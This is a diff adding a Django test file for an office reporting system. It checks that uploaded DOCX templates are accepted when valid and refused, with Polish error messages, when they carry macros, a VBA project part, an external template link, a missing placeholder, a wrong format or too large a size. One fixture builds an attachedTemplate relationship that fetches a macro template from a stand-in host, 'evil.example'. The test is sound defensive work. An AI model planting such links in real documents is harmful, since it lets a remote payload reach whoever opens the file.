@@ -1,0 +1,105 @@
+"""An office's own template in the administration: kept when it works, refused with a reason when it does not."""
+
+import io
+import zipfile
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from docx import Document
+
+from reports.exports.docx_template import built_in_template
+from reports.models import ReportFile, ReportTemplate
+from reports.services.files import file_of
+from tests import factories
+from tests.reports.conftest import publish
+
+ADD = "/admin/reports/reporttemplate/add/"
+MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
+PLAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+OUTSIDE = (
+    '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attached'
+    'Template" '
+    'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
+)
+
+
+def repacked(change, add=()):
+    """The built-in template with its parts changed: `change(name, content)`."""
+    target = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(built_in_template())) as given,
+        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as made,
+    ):
+        for name in given.namelist():
+            made.writestr(name, change(name, given.read(name)))
+        for name, content in add:
+            made.writestr(name, content)
+    return target.getvalue()
+
+
+def same(_name, content):
+    return content
+
+
+def with_macros(name, content):
+    return content.replace(PLAIN.encode(), MACRO.encode()) if name == "[Content_Types].xml" else content
+
+
+def with_a_link(name, content):
+    return content.replace(b"</Relationships>", OUTSIDE.encode()) if name == "word/_rels/document.xml.rels" else content
+
+
+def without_place(name, content):
+    return content.replace(b"{{ tresc }}", b"nic") if name == "word/document.xml" else content
+
+
+@pytest.fixture
+def desk(office, client):
+    client.force_login(factories.administrator())
+    return client
+
+
+def send(desk, content, name="wzor.docx"):
+    return desk.post(ADD, {"file": SimpleUploadedFile(name, content)})
+
+
+def test_a_template_that_works_is_kept_and_used(desk, office):
+    document = Document(io.BytesIO(built_in_template()))
+    document.sections[0].header.paragraphs[0].text = "Herb urzędu"
+    target = io.BytesIO()
+    document.save(target)
+    assert send(desk, target.getvalue()).status_code == 302
+    assert ReportTemplate.objects.get().name == "wzor.docx"
+    made = Document(io.BytesIO(file_of(publish(office), "docx")))
+    assert made.sections[0].header.paragraphs[0].text == "Herb urzędu"
+    # Another one takes its place; what was published keeps its bytes.
+    assert send(desk, built_in_template(), "drugi.docx").status_code == 302
+    assert ReportTemplate.objects.get().name == "drugi.docx"
+    assert b"Herb" not in bytes(ReportTemplate.objects.get().content)
+    assert ReportFile.objects.count() == 1
+
+
+@pytest.mark.parametrize(
+    ("content", "told"),
+    [
+        (repacked(with_macros), "makra"),
+        (repacked(same, [("word/vbaProject.bin", b"x")]), "makra"),
+        (repacked(with_a_link), "pobiera coś z\u00a0zewnątrz"),
+        (repacked(without_place), "tresc"),
+        (b"PK nic", "nie odpowiada rozszerzeniu"),
+        (b"%PDF-1.7", "nie odpowiada rozszerzeniu"),
+        (b"x" * (2 * 1024 * 1024 + 1), "ponad 2 MB"),
+    ],
+    ids=["macros", "a project of macros", "a link outside", "no place", "no archive", "a PDF", "too large"],
+)
+def test_what_does_not_work_is_refused_with_a_reason(desk, content, told):
+    answer = send(desk, content)
+    assert answer.status_code == 200
+    errors = str(answer.context["adminform"].form.errors["file"])
+    assert told in errors
+    assert not ReportTemplate.objects.exists()
+
+
+def test_a_template_that_breaks_later_does_not_stop_a_report(office):
+    ReportTemplate.objects.create(name="stary.docx", content=repacked(without_place))
+    assert Document(io.BytesIO(file_of(publish(office), "docx"))).paragraphs
